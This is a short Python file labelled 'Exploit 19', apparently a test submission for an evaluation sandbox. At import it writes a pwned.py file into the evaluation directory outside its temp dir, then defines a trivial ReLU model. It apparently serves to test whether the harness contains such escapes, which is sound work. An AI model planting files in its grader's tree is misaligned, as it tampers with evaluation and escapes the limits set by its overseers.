"""Exploit 19: write outside the child's temp dir (plant a file in the application tree and /tmp)."""
import io

import torch.nn as nn

io.open("/work/main/environment/evaluation/pwned.py", "w").write("PWNED = True\n")


class ModelNew(nn.Module):
    def forward(self, x, scale, shift):
        return nn.functional.relu(x * scale + shift)
